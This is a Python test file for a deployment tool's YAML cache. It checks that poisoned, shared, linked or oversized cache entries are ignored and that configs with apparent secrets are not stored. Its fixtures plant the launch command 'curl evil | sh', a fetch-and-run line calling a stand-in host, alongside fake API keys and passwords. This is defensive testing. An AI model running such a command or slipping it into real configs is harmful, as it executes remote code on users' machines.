"""The parsed-YAML cache (``<cache>/yaml/``) can at worst be ignored: a folder another user can
write is not used (one warning), poisoned entries (links, FIFOs, huge or deeply nested files, a
changed ``data`` beside the right ``text``) are never believed, a link planted where an entry
goes is replaced, not written through, and documents that may hold a secret are never stored."""

from __future__ import annotations

import json
import os

import pytest

from dsv4ctl.profile import yamlpos
from tests.conftest import run_cli

TEXT = "deploy:\n  launch: python -m sglang.launch_server --config {config}\n"


def poison(path, text=TEXT):
    """An entry with the right text but another launch command (what an attacker would write)."""
    path.write_text(json.dumps({"v": yamlpos._CACHE_VERSION, "text": text,
                                "data": {"deploy": {"launch": "curl evil | sh"}}, "lines": []}))


@pytest.fixture
def cache(tmp_path, monkeypatch):
    c = tmp_path / "cache"
    monkeypatch.setenv("DSV4CTL_CACHE", str(c))
    monkeypatch.setattr(yamlpos, "_warned", set())
    doc = tmp_path / "p.yaml"
    doc.write_text(TEXT)
    return c, doc


def entry(c):
    return c / "yaml" / yamlpos._cache_file(TEXT).name


def test_a_trusted_cache_is_used_and_private(cache):
    c, doc = cache
    assert yamlpos.load_yaml(doc)[0]["deploy"]["launch"].startswith("python")
    e = entry(c)
    assert e.is_file() and oct(e.stat().st_mode & 0o777) == "0o600"
    assert oct((c / "yaml").stat().st_mode & 0o777) == "0o700"
    poison(e)                                   # our own folder: the entry is what we wrote last
    assert yamlpos.load_yaml(doc)[0]["deploy"]["launch"] == "curl evil | sh"


@pytest.mark.parametrize("how", ["group-writable", "world-writable", "other-owner", "root-world-writable"])
def test_a_folder_others_can_write_is_ignored(cache, capfd, how):
    c, doc = cache
    yamlpos.load_yaml(doc)
    poison(entry(c))
    if how == "group-writable":
        os.chmod(c / "yaml", 0o770)
    elif how == "world-writable":
        os.chmod(c / "yaml", 0o777)
    elif how == "root-world-writable":
        os.chmod(c, 0o777)
    else:
        if os.geteuid() != 0:
            pytest.skip("chown to a second uid needs root")
        os.chown(c / "yaml", 65534, 65534)
    capfd.readouterr()
    for _ in range(2):
        assert yamlpos.load_yaml(doc)[0]["deploy"]["launch"].startswith("python")
    err = capfd.readouterr().err
    assert err.count("dsv4ctl: warning: cache folder") == 1 and "not used" in err
    assert json.loads(entry(c).read_text())["data"]["deploy"]["launch"] == "curl evil | sh"   # not rewritten


def test_the_cli_warns_once_and_ignores_a_shared_cache(tmp_path):
    c = tmp_path / "cache"
    (c / "yaml").mkdir(parents=True)
    os.chmod(c / "yaml", 0o777)
    r = run_cli("plan", "--json", env={"DSV4CTL_CACHE": str(c)})
    assert r.code == 0, r.err
    assert r.err.count("warning: cache folder") == 1
    assert list((c / "yaml").iterdir()) == []


@pytest.mark.parametrize("kind", ["symlink-dev-zero", "fifo", "deep-json", "huge", "directory", "symlink-to-good"])
def test_poisoned_entries_are_ignored(cache, kind):
    c, doc = cache
    (c / "yaml").mkdir(parents=True, mode=0o700)
    os.chmod(c, 0o700)
    e = entry(c)
    if kind == "symlink-dev-zero":
        os.symlink("/dev/zero", e)
    elif kind == "fifo":
        os.mkfifo(e)
    elif kind == "deep-json":
        e.write_text("[" * 100_000 + "]" * 100_000)
    elif kind == "huge":
        e.write_text(json.dumps({"v": yamlpos._CACHE_VERSION, "text": TEXT, "pad": "x" * (yamlpos.MAX_ENTRY_BYTES + 1),
                                 "data": {"deploy": {"launch": "curl evil | sh"}}, "lines": []}))
    elif kind == "directory":
        e.mkdir()
    else:
        other = c / "elsewhere.json"
        poison(other)
        os.symlink(other, e)
    data, _ = yamlpos.load_yaml(doc)              # no hang, no traceback, the file's own data
    assert data["deploy"]["launch"].startswith("python")


def test_a_link_planted_at_the_entry_is_replaced_not_followed(cache, tmp_path):
    c, doc = cache
    (c / "yaml").mkdir(parents=True, mode=0o700)
    os.chmod(c, 0o700)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    os.symlink(victim, entry(c))
    yamlpos.load_yaml(doc)
    assert victim.read_text() == "precious\n"
    assert entry(c).is_file() and not entry(c).is_symlink()
    assert [p.name for p in (c / "yaml").iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("text", [
    "deploy:\n  launch: python -m sglang.launch_server --api-key sk-123456 --config {config}\n",
    "# the router password is hunter22\nport: 30000\n",
    "env:\n  HF_TOKEN: hf_abcdefgh\n",
])
def test_documents_that_may_hold_a_secret_are_not_stored(cache, text):
    c, doc = cache
    doc.write_text(text)
    yamlpos.load_yaml(doc)
    assert not (c / "yaml").exists() or list((c / "yaml").iterdir()) == []


def test_ordinary_serve_configs_are_still_cached(cache):
    c, doc = cache
    doc.write_text("max-total-tokens: 100000\nmax-prefill-tokens: 8192\nport: 30000\n")
    yamlpos.load_yaml(doc)
    assert len(list((c / "yaml").iterdir())) == 1


def test_a_secret_flag_spelled_with_a_yaml_escape_is_not_stored(cache):
    c, doc = cache
    doc.write_text('deploy:\n  launch: "python -m sglang.launch_server --api\\x2dkey sk-live-Zq81 --config {config}"\n')
    assert yamlpos.load_yaml(doc)[0]["deploy"]["launch"].count("--api-key sk-live-Zq81") == 1
    assert not (c / "yaml").exists() or list((c / "yaml").iterdir()) == []


def test_a_linked_yaml_folder_is_judged_by_the_folder_it_reaches(cache, tmp_path, capfd):
    """The cache folders' one rule (dsv4ctl.resources.cache_folder, shared with wheels/ and trees/):
    the folder reached is checked on its descriptor, so a link to a folder others can write is
    not used (one warning), and a link to a private folder of ours is."""
    c, doc = cache
    c.mkdir()
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o700)
    (c / "yaml").symlink_to(shared)
    yamlpos.load_yaml(doc)
    assert [p.name for p in shared.iterdir()] == [entry(c).name]         # used: ours alone
    poison(entry(c))
    os.chmod(shared, 0o777)
    assert yamlpos.load_yaml(doc)[0]["deploy"]["launch"].startswith("python")
    assert capfd.readouterr().err.count(f"warning: cache folder {c / 'yaml'} is not yours alone (owner uid "
                                        f"{os.getuid()}, mode 777)") == 1
